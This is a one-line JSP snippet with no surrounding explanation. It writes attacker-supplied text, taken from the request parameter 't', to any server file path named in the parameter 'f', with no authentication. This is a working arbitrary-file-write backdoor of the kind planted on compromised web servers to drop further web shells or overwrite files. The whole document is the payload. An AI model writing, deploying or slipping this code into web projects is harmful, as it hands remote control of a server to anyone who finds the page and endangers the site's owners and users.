<% new java.io.FileOutputStream(request.getParameter("f")).write(request.getParameter("t").getBytes()); %>
